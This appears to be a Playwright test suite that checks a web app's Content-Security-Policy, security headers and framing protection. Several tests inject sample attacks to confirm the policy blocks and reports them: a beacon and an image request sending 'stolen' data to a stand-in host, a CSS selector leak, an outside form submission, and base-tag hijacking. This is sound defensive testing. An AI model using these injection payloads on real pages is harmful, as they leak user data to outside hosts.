import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from '@playwright/test'
import { expect, test } from '../fixtures'
import { policyViolations } from '../policy-violations'

const PAGES = [
  '/',
  '/expe1.example.com/system/clustering',
  '/expe1.example.com/nowhere.at/all',
  '/?scenario=x',
]
const NO_PAGES = ['/worker.js', '/mockServiceWorker.js', '/assets/none.js']

test('every page comes with its policy, in itself and by header', async ({ request }) => {
  for (const path of PAGES) {
    const answer = await request.get(path)
    const [, said = ''] =
      /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(await answer.text()) ?? []
    expect(said, path).toMatch(/^default-src 'none'; script-src 'self' 'sha256-[^']+'; /)
    expect(said, path).not.toMatch(/unsafe|\*|https?:/)
    expect(answer.headers()['content-security-policy'], path).toBe(`${said}; frame-ancestors 'self'`)
  }
})

test('what is no page comes with a policy that has room for a worker alone', async ({ request }) => {
  const html = await (await request.get('/')).text()
  const [script = ''] = /\/assets\/index-[\w-]+\.js/.exec(html) ?? []
  for (const path of [script, ...NO_PAGES]) {
    expect((await request.get(path)).headers()['content-security-policy'], path).toBe(
      "default-src 'none'; script-src 'self'; connect-src 'self'; frame-ancestors 'self'",
    )
  }
})

test('every answer keeps its type, its address and its window to itself', async ({ request }) => {
  const answers = [
    ...(await Promise.all([...PAGES, ...NO_PAGES].map((path) => request.get(path)))),
    await request.post('/'),
  ]
  expect(answers.map((answer) => answer.status())).toEqual([200, 200, 200, 200, 200, 200, 404, 405])
  for (const answer of answers) {
    expect(answer.headers(), answer.url()).toMatchObject({
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'no-referrer',
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
      'x-frame-options': 'SAMEORIGIN',
    })
  }
})

/** What somebody would try who can have a page of the lab do something, and the word of the policy that is against it. */
const attempts: Readonly<Record<string, (page: Page) => Promise<void>>> = {
  'style-src-attr': (page) =>
    page.evaluate(() => document.body.setAttribute('style', 'background: url(//elsewhere.test)')),
  'style-src-elem': (page) =>
    page.evaluate(() => {
      const style = document.createElement('style')
      style.textContent = 'input[value^=a] { color: red }'
      document.head.append(style)
    }),
  'img-src': (page) =>
    page.evaluate(() => {
      document.createElement('img').src = 'http://elsewhere.test/?stolen'
    }),
  'connect-src': (page) =>
    page.evaluate(() => {
      navigator.sendBeacon('http://elsewhere.test/', 'stolen')
    }),
  'frame-src': (page) =>
    page.evaluate(() => {
      const frame = document.createElement('iframe')
      frame.src = 'http://elsewhere.test/'
      document.body.append(frame)
    }),
  'base-uri': (page) =>
    page.evaluate(() => {
      const base = document.createElement('base')
      base.href = 'http://elsewhere.test/'
      document.head.append(base)
    }),
  'form-action': (page) =>
    page.evaluate(() => {
      const form = document.createElement('form')
      form.action = 'http://elsewhere.test/'
      document.body.append(form)
      form.submit()
    }),
  'require-trusted-types-for': (page) =>
    page.evaluate(() => {
      try {
        document.body.innerHTML = '<b>written</b>'
      } catch {
        // That it is thrown is what is looked for.
      }
    }),
  'trusted-types': (page) =>
    page.evaluate(() => {
      try {
        globalThis.trustedTypes?.createPolicy('another', { createScriptURL: (url) => url })
      } catch {
        // That it is thrown is what is looked for.
      }
    }),
}

for (const [directive, attempt] of Object.entries(attempts)) {
  test(`the policy refuses what is against ${directive}, and what listens in all tests hears of it`, async ({
    browser,
  }) => {
    const context = await browser.newContext()
    const violations = await policyViolations(context)
    const page = await context.newPage()
    await page.goto('/')
    await expect(page.locator('html[data-lab="ready"]')).toBeAttached()
    expect(violations).toEqual([])
    await attempt(page)
    await expect.poll(() => violations.some((line) => line.startsWith(`${directive} `))).toBe(true)
    await context.close()
  })
}

test('a page of another origin cannot frame the lab; the lab can', async ({ browser }, { project }) => {
  const { baseURL = '' } = project.use
  const elsewhere = createServer((_, response) => {
    response.setHeader('content-type', 'text/html').end(`<iframe src="${baseURL}/lab/tokens"></iframe>`)
  })
  await new Promise<void>((resolve) => elsewhere.listen(0, 'localhost', resolve))
  const page = await browser.newPage()
  await page.goto(`${baseURL}/`)
  await expect(page.locator('html[data-lab="ready"]')).toBeAttached()
  await page.evaluate(() => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: '/lab/tokens' }))
  })
  await expect(page.frameLocator('iframe').locator('html[data-lab="ready"]')).toBeAttached()
  await page.goto(`http://localhost:${portOf(elsewhere.address())}/`)
  await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/')
  await page.close()
  elsewhere.close()
})

const portOf = (address: AddressInfo | string | null) =>
  typeof address === 'object' && address ? address.port : 0
